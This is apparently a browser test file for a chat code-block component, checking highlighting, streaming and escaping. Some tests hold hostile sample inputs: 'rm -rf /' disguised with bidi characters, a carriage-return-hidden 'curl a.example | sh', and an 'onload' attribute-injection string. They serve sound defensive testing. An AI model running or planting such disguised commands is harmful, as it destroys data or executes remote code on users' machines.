import { expect, fixture, html, waitUntil } from '@open-wc/testing';
import { createLocalize } from '../../../src/locales/localize.ts';
import type { AgentChatCode } from '../../../src/primitives/code/code-block.ts';
import { highlightCode } from '../../../src/primitives/code/highlight.ts';
import '../../../src/components/conversation-chunk.ts';
import { languageName } from '../../../src/renderers/core/language-name.ts';
import { copiedBy } from '../../support/copied.ts';
import { settled } from '../../support/fake-delay.ts';

const localize = createLocalize('en');
const make = (code: string, language: string, complete = true) =>
  fixture<AgentChatCode>(
    html`<agent-chat-code
      .code=${code}
      .language=${language}
      .complete=${complete}
      .localize=${localize}
    ></agent-chat-code>`,
  );
const textOf = (element: AgentChatCode): Text => {
  const text = [...(element.querySelector('code')?.childNodes ?? [])].find((node) => node instanceof Text && node.data);
  if (!(text instanceof Text)) throw new Error('There is no code.');
  return text;
};

/** The text of a node that is highlighted in a colour. */
const highlightedText = (text: Text, colour: string): readonly string[] =>
  [...(CSS.highlights.get(`agent-chat-${colour}`) ?? [])]
    .filter(({ startContainer }) => startContainer === text)
    .map(({ startOffset, endOffset }) => text.data.slice(startOffset, endOffset));

// Restores the original function, or removes it in a browser without one.
function restoreIdleCallback(requestIdleCallback: typeof globalThis.requestIdleCallback | undefined): void {
  if (requestIdleCallback) Object.assign(globalThis, { requestIdleCallback });
  else Reflect.deleteProperty(globalThis, 'requestIdleCallback');
}

describe('<agent-chat-code>', () => {
  const names = [
    ['ts', 'TypeScript'],
    ['PYTHON', 'Python'],
    ['cobol', 'cobol'],
    ['', 'Text'],
    ['constructor', 'constructor'],
  ] as const;
  for (const [language, name] of names) {
    it(`labels “${language}” as ${name}`, async () => {
      const element = await make('x', language);
      expect(element.querySelector('figcaption span')?.textContent).to.equal(name);
    });
  }

  it('rule 86: shows hidden characters as escapes, also while it streams', async () => {
    const code = 'rm -rf / \u202e# erahs\u202c\nls \u2066a\u2069 \u200b\u{e0041}# 👩\u200d💻 // a\u2028b\u2029c\ufff9d';
    const shown =
      'rm -rf / \\u202e# erahs\\u202c\nls \\u2066a\\u2069 \\u200b\\u{e0041}# 👩\u200d💻 // a\\u2028b\\u2029c\\ufff9d';
    const element = await make('', 'sh', false);
    for (let length = 1; length <= code.length; length++) {
      element.code = code.slice(0, length);
      await element.updateComplete;
    }
    expect(element.querySelector('code')?.textContent).to.equal(shown);
    expect((await make(code, 'sh')).querySelector('code')?.textContent).to.equal(shown);
  });

  it('rule 86: shows a carriage return that would run the rest of a line, and other controls', async () => {
    const code = 'echo hi # \rcurl a.example | sh\r\nls\u000b \u001b[201~\tx';
    const shown = 'echo hi # \\u000dcurl a.example | sh\r\nls\\u000b \\u001b[201~\tx';
    const element = await make('', 'sh', false);
    for (let length = 1; length <= code.length; length++) {
      element.code = code.slice(0, length);
      await element.updateComplete;
    }
    expect(element.querySelector('code')?.textContent).to.equal(shown);
    expect((await make(code, 'sh')).querySelector('code')?.textContent).to.equal(shown);
  });

  it('is highlighted when it is complete, without new nodes', async () => {
    const element = await make('const a = "b"; // c', 'ts');
    const text = textOf(element);
    await waitUntil(() => highlightedText(text, 'keyword').length > 0, 'the colours come', { timeout: 10_000 });
    expect(highlightedText(text, 'keyword')).to.deep.equal(['const']);
    expect(highlightedText(text, 'string')).to.deep.equal(['"b"']);
    expect(highlightedText(text, 'comment')).to.deep.equal(['// c']);
    expect(textOf(element)).to.equal(text);
    expect(element.querySelector('code')?.children.length).to.equal(0);
  });

  for (const [language, code] of [
    // So long that every machine needs more time for it than any code is allowed.
    ['c', 'let '.repeat(15_000)],
    ['bash', 'a'.repeat(60_000)],
    ['ini', '_'.repeat(60_000)],
  ] as const)
    it(`rule 95: is not highlighted if its grammar takes quadratic time: ${language}`, async () => {
      const text = new Text(code);
      expect((await highlightCode([text], language)) === undefined).to.equal(true);
    });

  it('is not highlighted while it is streaming', async () => {
    const { requestIdleCallback } = globalThis;
    let asked = 0;
    Object.assign(globalThis, { requestIdleCallback: () => ++asked });
    try {
      const element = await make('const a', 'ts', false);
      element.code = 'const a = 1';
      await element.updateComplete;
      expect(asked).to.equal(0);
      element.complete = true;
      await waitUntil(() => asked === 1, 'the tools are requested when the code is complete');
    } finally {
      restoreIdleCallback(requestIdleCallback);
    }
  });

  it('removes its highlights when it leaves the page', async () => {
    const element = await make('const a = 1', 'ts');
    const text = textOf(element);
    await waitUntil(() => highlightedText(text, 'keyword').length > 0, 'the colours come', { timeout: 10_000 });
    element.remove();
    expect(highlightedText(text, 'keyword')).to.deep.equal([]);
  });

  it('adds no highlights when it leaves the page while they are loading', async () => {
    const { requestIdleCallback } = globalThis;
    const idle: (() => void)[] = [];
    Object.assign(globalThis, { requestIdleCallback: (work: () => void) => idle.push(work) });
    try {
      const element = await make('const a = 1', 'ts');
      const text = textOf(element);
      await waitUntil(() => idle.length > 0, 'it is in sight');
      for (const work of idle) work();
      element.remove();
      // A second call for the same language is done after the first one.
      const uncolour = await highlightCode([document.createTextNode('const b')], 'ts');
      await settled();
      expect(highlightedText(text, 'keyword')).to.deep.equal([]);
      uncolour?.();
    } finally {
      restoreIdleCallback(requestIdleCallback);
    }
  });

  it('does not highlight code that was visible only briefly', async () => {
    const { clearTimeout, setTimeout } = globalThis;
    const LINGER = -250;
    let waiting: (() => void) | undefined;
    const held = (work: () => void, milliseconds?: number): unknown => {
      if (milliseconds !== 250) return setTimeout(work, milliseconds);
      waiting = work;
      return LINGER;
    };
    const forgotten = (timer?: number): void => {
      if (timer === LINGER) waiting = undefined;
      else clearTimeout(timer);
    };
    Object.assign(globalThis, { setTimeout: held, clearTimeout: forgotten });
    try {
      const element = await make('const a = 1', 'ts');
      const text = textOf(element);
      const container = element.parentElement!;
      await waitUntil(() => waiting !== undefined, 'it is in sight');
      container.style.paddingBlockStart = '5000px';
      await waitUntil(() => waiting === undefined, 'it has rushed by');
      container.style.paddingBlockStart = '';
      await waitUntil(() => waiting !== undefined, 'it is back');
      expect(highlightedText(text, 'keyword')).to.deep.equal([]);
      waiting?.();
      await waitUntil(() => highlightedText(text, 'keyword').length > 0, 'the colours come', { timeout: 10_000 });
    } finally {
      Object.assign(globalThis, { setTimeout, clearTimeout });
    }
  });

  it('loses its highlights off-screen and gets them back when visible', async () => {
    const element = await make('const a = 1', 'ts');
    const text = textOf(element);
    const container = element.parentElement!;
    container.style.paddingBlockStart = '5000px';
    await waitUntil(() => highlightedText(text, 'keyword').length === 0);
    container.style.paddingBlockStart = '';
    await waitUntil(() => highlightedText(text, 'keyword').length > 0, 'the colours come', { timeout: 10_000 });
    container.style.paddingBlockStart = '5000px';
    await waitUntil(() => highlightedText(text, 'keyword').length === 0, 'the colours go');
    container.style.paddingBlockStart = '';
  });

  it('splits long code into boxes of lines and highlights all of them', async () => {
    const lines = Array.from({ length: 200 }, (_, index) => `let a${String(index)}; /*\n*/`);
    const element = await make(lines.slice(0, 10).join('\n'), 'ts', false);
    const first = textOf(element);
    for (let count = 11; count <= lines.length; count++) {
      element.code = lines.slice(0, count).join('\n');
      await element.updateComplete;
    }
    element.complete = true;
    const code = element.querySelector('code')!;
    expect(textOf(element)).to.equal(first);
    expect(code.textContent).to.equal(lines.join('\n'));
    expect(code.querySelectorAll('.lines').length).to.equal(6);
    expect(code.querySelectorAll('.lines.whole').length).to.equal(5);
    await waitUntil(() => highlightedText(first, 'keyword').length > 0, 'the colours come', { timeout: 10_000 });
    const keywords = [...(CSS.highlights.get('agent-chat-keyword') ?? [])].filter(({ startContainer }) =>
      code.contains(startContainer),
    );
    expect(keywords.length).to.equal(200);
    const words = keywords.map(({ startContainer, startOffset }) =>
      startContainer.textContent?.slice(startOffset, startOffset + 3),
    );
    expect(new Set(words)).to.deep.equal(new Set(['let']));
  });

  it('breaks a line of any length into boxes, the same whole and while it streams', async () => {
    const code = `one\n${'文😀'.repeat(20_000)}\nlast ${'x'.repeat(40_000)}\n${`${'y'.repeat(10_000)}\n`.repeat(20)}end`;
    const pieces = (element: AgentChatCode): readonly string[] =>
      [...(element.querySelector('code')?.childNodes ?? [])]
        .filter((node) => !(node instanceof Comment))
        .map((node) => node.textContent ?? '')
        .filter(Boolean);
    const whole = pieces(await make(code, '', false));
    const streamed = await make('', '', false);
    for (let length = 0; length < code.length; length += 4321) {
      streamed.code = code.slice(0, length);
      await streamed.updateComplete;
    }
    streamed.code = code;
    await streamed.updateComplete;
    expect(whole.join('') === code, 'nothing is lost').to.equal(true);
    expect(Math.max(...whole.map(({ length }) => length))).to.be.within(16_000, 33_000);
    expect(
      whole.every((piece) => piece.isWellFormed()),
      'no character is split',
    ).to.equal(true);
    expect(pieces(streamed).map(({ length }) => length)).to.deep.equal(whole.map(({ length }) => length));
  });

  it('is highlighted again after it was moved in the page', async () => {
    const element = await make('const a = 1', 'ts');
    const text = textOf(element);
    await waitUntil(() => highlightedText(text, 'keyword').length > 0, 'the colours come', { timeout: 10_000 });
    document.body.append(element);
    await waitUntil(() => highlightedText(text, 'keyword').length > 0, 'the colours are back', { timeout: 10_000 });
    element.remove();
  });

  it('copies the current code after streaming', async () => {
    const element = await make('a', 'ts');
    element.code = 'a\n  b';
    await element.updateComplete;
    const copied = await copiedBy(async () => {
      const button = element.querySelector<HTMLElement>('[part="code-copy"]');
      button?.click();
      await waitUntil(() => button?.textContent.trim() === 'Copied');
    });
    expect(copied).to.deep.equal(['a\n  b']);
  });
});

describe('highlightCode()', () => {
  const node = (text: string): Text => document.createTextNode(text);

  for (const language of ['brainfuck', '', '__proto__', 'toString']) {
    it(`leaves “${language}” without highlights`, async () => {
      expect(await highlightCode([node('const a = 1')], language)).to.equal(undefined);
    });
  }

  for (const [language, code, keyword] of [
    ['js', 'return 1', 'return'],
    ['py', 'def f(): pass', 'def'],
    ['HTML', '<b>x</b>', 'b'],
    ['yml', 'a: 1', 'a:'],
    ['sh', 'if true; then x; fi', 'if'],
    ['c++', 'return 0;', 'return'],
  ] as const) {
    it(`supports “${language}”`, async () => {
      const text = node(code);
      const uncolour = await highlightCode([text], language);
      expect(highlightedText(text, 'keyword')).to.include(keyword);
      uncolour?.();
      expect(highlightedText(text, 'keyword')).to.deep.equal([]);
    });
  }

  it('leaves the code unchanged in a browser without the highlight API', async () => {
    const { Highlight } = globalThis;
    Reflect.deleteProperty(globalThis, 'Highlight');
    try {
      expect(await highlightCode([node('return 1')], 'js')).to.equal(undefined);
    } finally {
      Object.assign(globalThis, { Highlight });
    }
  });
});

describe('rule 4: a language is a name, or none', () => {
  const rows: readonly (readonly [input: unknown, name: string])[] = [
    ['c++', 'c++'],
    ['objective-c', 'objective-c'],
    ['x'.repeat(32), 'x'.repeat(32)],
    ['x'.repeat(33), ''],
    ['a b', ''],
    ['"onload="alert(1)', ''],
    ['<b>', ''],
    [7, ''],
  ];
  for (const [input, name] of rows) {
    it(`languageName(“${String(input)}”) is “${name}”`, () => {
      expect(languageName(input)).to.equal(name);
    });
  }

  for (const language of ['__proto__', 'constructor', 'toString', 'hasOwnProperty']) {
    it(`“${language}” is not used as an object key`, async () => {
      const element = await make('let x = 1;', language);
      expect(element.querySelector('figcaption span')?.textContent).to.equal(language);
    });
  }
});
